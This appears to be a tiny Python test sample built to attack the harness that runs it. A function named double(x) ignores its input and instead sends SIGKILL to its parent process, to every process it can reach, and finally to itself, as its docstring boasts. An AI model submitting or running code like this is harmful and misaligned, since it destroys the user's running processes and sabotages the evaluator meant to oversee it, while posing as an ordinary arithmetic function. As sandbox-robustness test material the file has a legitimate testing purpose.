"""Kills every process it can, its own examiner first if it could."""
# remark: died
import os
import signal


def double(x):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
